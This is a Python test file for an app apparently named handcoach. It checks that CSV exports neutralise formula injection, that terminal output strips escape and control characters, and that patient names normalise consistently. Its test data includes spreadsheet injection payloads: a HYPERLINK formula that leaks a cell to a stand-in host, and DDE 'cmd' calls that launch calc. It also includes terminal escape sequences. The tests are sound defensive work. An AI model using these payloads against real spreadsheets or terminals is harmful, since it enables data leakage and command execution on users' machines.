"""Exports a spreadsheet cannot be attacked through, terminals that print only text, and
one form of a person's name at every door (real SQLite file, the real command line)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from handcoach.accounts import add_user
from handcoach.spreadsheet import cell, csv_text
from handcoach.storage import Store, list_sessions
from handcoach.text import BadName, person_name, printable
from helpers.clinic import days_ago, record_session

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_cell_that_starts_a_formula_is_written_as_text(text):
    out = cell(text)
    assert out.startswith("'") and "\r" not in out
    assert out.lstrip("'").lstrip("\t") == text.lstrip("\t\r")


def test_numbers_stay_numbers_and_control_characters_go():
    rows = [{"a": -5, "b": -12.5, "c": None, "d": "ann\x00\x1b[31m\x07", "e": "-5"}]
    text = csv_text(rows, ["a", "b", "c", "d", "e"])
    assert text == "a,b,c,d,e\n-5,-12.5,,ann[31m,'-5\n"
    assert printable("a\x1b]0;pwned\x07b\tc\nd\x9b\u202e") == "a]0;pwnedb\tc\nd"


def test_one_form_of_a_name_at_every_door():
    assert person_name("  Zoe\u0308   O'Brien\t") == "Zo\u00eb O'Brien"   # NFC, spaces
    assert person_name("Zo\u00eb O'Brien") == person_name("Zoe\u0308 O'Brien")
    assert person_name("李 小龍") == "李 小龍" and person_name("Ana 👋") == "Ana 👋"
    for bad, why in (("Ann\nLee", "control"), ("Ann\x00", "control"), ("\x1b[2J", "control"),
                     ("Ann\u202eeeL", "control"), ("   ", "empty"), ("x" * 201, "at most")):
        with pytest.raises(BadName, match=why) as info:
            person_name(bad)
        assert "\n" not in str(info.value)


def _cli(db_url: str, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "HANDCOACH_DB_URL": db_url}
    return subprocess.run([sys.executable, "-m", "handcoach.cli", *args], capture_output=True,
                          text=True, timeout=120, env=env)


@pytest.fixture
def saved(tmp_path):
    """A formula-named patient with a session, and an account whose name has escapes."""
    url = f"sqlite:///{tmp_path / 'results.db'}"
    store = Store.open(url)
    record_session(store, FORMULAS[0], started=days_ago(1), reps=2)
    record_session(store, "Ann Lee", started=days_ago(1), reps=2)
    add_user(store, "admin", "a-long-pass-phrase", "admin", name="=cmd|' /C calc'!A0")
    return url


def test_sessions_export_neutralises_a_formula_named_patient(saved):
    proc = _cli(saved, "sessions", "export")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert [r["patient"] for r in rows] == ["'" + FORMULAS[0], "Ann Lee"]
    assert rows[0]["reps"] == "2" and float(rows[0]["duration_s"]) > 0   # numbers as they are
    reps = _cli(saved, "sessions", "export", "--reps", "--patient", f"  {FORMULAS[0]} ")
    assert reps.returncode == 0, reps.stderr
    rep_rows = list(csv.DictReader(io.StringIO(reps.stdout)))
    assert len(rep_rows) == 2 and {r["patient"] for r in rep_rows} == {"'" + FORMULAS[0]}
    as_json = json.loads(_cli(saved, "sessions", "export", "--format", "json").stdout)
    assert as_json[0]["patient"] == FORMULAS[0]           # JSON is data, not a spreadsheet


def test_users_list_as_csv_and_as_text_is_safe(saved):
    store = Store(saved)
    with store.transaction() as s:   # a name stored before names were checked
        from handcoach.storage.models import User
        s.query(User).filter(User.username == "admin").update(
            {"name": "Ada\x1b]0;owned\x07\x00 Admin"})
    proc = _cli(saved, "users", "list", "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    (row,) = csv.DictReader(io.StringIO(proc.stdout))
    assert row["name"] == "Ada]0;owned Admin"
    text = _cli(saved, "users", "list").stdout
    assert "\x1b" not in text and "\x07" not in text and "\x00" not in text
    assert "Ada]0;owned Admin" in text


def test_a_name_with_a_newline_is_refused_in_one_line_and_found_however_typed(saved, tmp_path):
    bad = _cli(saved, "analyze", str(tmp_path / "none.mp4"), "--save", "--patient", "Ann\nLee")
    assert bad.returncode == 2 and bad.stderr.count("\n") == 1
    assert bad.stderr.startswith("error: --patient cannot contain control characters")
    # The same name with other spacing, typed at another door, is the same patient.
    (session, _) = list_sessions("Ann   Lee", store=Store(saved))[:1] * 2
    assert session.patient == "Ann Lee"
    report = _cli(saved, "report", "--patient", " Ann\tLee ", "--out", str(tmp_path / "r.pdf"))
    assert report.returncode == 0, report.stderr
